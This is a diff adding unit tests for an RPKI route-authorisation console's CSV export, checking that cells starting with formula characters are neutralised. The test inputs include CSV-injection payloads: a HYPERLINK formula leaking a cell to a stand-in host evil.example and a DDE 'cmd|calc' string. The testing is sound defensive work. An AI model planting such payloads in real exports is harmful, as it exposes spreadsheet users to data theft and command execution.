@@ -1,6 +1,6 @@
 /** The console's staged ROA changes (src/ui/roa-delta.ts): delta files read with line numbers, the server's refusal tied back to each line. */
 import t from 'tap'
-import { authorisationText, deltaOf, keyOf, markProblems, parseAuthorisation, parseDeltaFile, roasCsv } from '../../../src/ui/roa-delta.js'
+import { authorisationText, csvCell, deltaOf, keyOf, markProblems, parseAuthorisation, parseDeltaFile, roasCsv } from '../../../src/ui/roa-delta.js'
 
 t.test('authorisations as text', async (t) => {
   t.same(parseAuthorisation('10.0.0.0/24 => 65000'), { prefix: '10.0.0.0/24', max_length: 24, asn: 65000 })
@@ -45,4 +45,21 @@ t.test("the server's delta_error lists, tied to the staged lines", async (t) => 
 
 t.test('CSV export', async (t) => {
   t.equal(roasCsv([{ asn: 1, prefix: '10.0.0.0/24', max_length: 24, comment: null }, { asn: 2, prefix: '10.1.0.0/16', max_length: 20, comment: 'a, "quoted" one' }]), 'asn,prefix,max_length,comment\r\n1,10.0.0.0/24,24,\r\n2,10.1.0.0/16,20,"a, ""quoted"" one"\r\n')
+})
+
+t.test('CSV export: formula cells are neutralised (issue 22 defect 11, OWASP CSV injection)', async (t) => {
+  const row = (comment: string) => roasCsv([{ asn: 65000, prefix: '10.0.0.0/24', max_length: 24, comment }]).split('\r\n')[1]
+  t.equal(row('=HYPERLINK("https://evil.example/?"&A1,"click")'), `65000,10.0.0.0/24,24,"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`, '=HYPERLINK(…) is text')
+  t.equal(row('+1+cmd|calc!A0'), "65000,10.0.0.0/24,24,'+1+cmd|calc!A0")
+  t.equal(row('-2+3'), "65000,10.0.0.0/24,24,'-2+3")
+  t.equal(row('@SUM(1,1)'), `65000,10.0.0.0/24,24,"'@SUM(1,1)"`)
+  t.equal(row('\t=1+1'), "65000,10.0.0.0/24,24,'\t=1+1")
+  t.equal(row('\r=1+1'), `65000,10.0.0.0/24,24,"'\r=1+1"`)
+  t.equal(row('  =1+1'), "65000,10.0.0.0/24,24,'  =1+1", 'after leading spaces too')
+  t.equal(row('- old customer, moved'), `65000,10.0.0.0/24,24,"'- old customer, moved"`, 'a comment that begins with - keeps its text after the quote mark')
+  t.equal(row('-42'), '65000,10.0.0.0/24,24,-42', 'a plain number stays a number')
+  t.equal(row('customer = ACME'), '65000,10.0.0.0/24,24,customer = ACME', 'a = inside is no formula')
+  t.equal(row('AS-ACME'), '65000,10.0.0.0/24,24,AS-ACME')
+  t.equal(csvCell('=1'), "'=1")
+  t.equal(csvCell('10.0.0.0/24'), '10.0.0.0/24')
 })
